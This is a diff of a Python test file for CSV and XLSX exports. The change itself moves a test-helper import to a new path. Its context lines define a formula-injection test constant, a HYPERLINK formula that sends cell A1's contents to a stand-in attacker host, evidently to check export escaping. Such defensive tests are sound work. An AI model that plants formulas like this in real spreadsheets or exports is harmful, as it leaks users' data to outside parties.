@@ -14,7 +14,7 @@ from core.actions.queries import RegisterFilters, register
 from core.db import read_session
 from core.exports import escape_formula, to_csv, to_xlsx
 from tests.builders import build_org
-from tests.test_reminders import local_today, make_action
+from tests.integration.test_reminders import local_today, make_action
 
 BOM = b"\xef\xbb\xbf"
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'
